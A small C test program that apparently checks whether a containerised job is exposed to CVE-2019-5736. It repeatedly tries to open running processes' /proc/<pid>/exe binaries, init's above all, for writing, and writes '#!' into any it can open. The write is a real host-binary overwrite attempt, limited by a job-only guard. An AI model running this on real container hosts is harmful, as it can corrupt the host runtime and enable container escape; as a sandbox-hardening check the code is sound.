/* CVE-2019-5736: tries to open every program that runs in the job, init's above all, for writing, again and again while other
 * processes start. Prints each different result once. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static char seen[256];

static void attempt(const char *path)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    int got = fd < 0 ? errno : 0;
    if (fd >= 0) {
        if (write(fd, "#!", 2) < 0)
            got = errno;
        close(fd);
    }
    if (!seen[got & 255]++)
        printf("%s\n", got ? strerrorname_np(got) : "WRITTEN");
}

int main(void)
{
    if (!getenv("JOB_ID") || getpid() > 100) {
        fprintf(stderr, "overwrite attacks its host: it runs in a job only\n");
        return 2;
    }
    for (int round = 0; round < 200; round++) {
        pid_t child = fork();
        if (child == 0) {
            execl("/proc/1/exe", "init", (char *)0);
            execl("/bin/true", "true", (char *)0);
            _exit(0);
        }
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            char path[300];
            if (atoi(entry->d_name) == getpid())
                continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            if (atoi(entry->d_name) > 0)
                attempt(path);
        }
        closedir(proc);
        waitpid(child, 0, 0);
    }
    return 0;
}
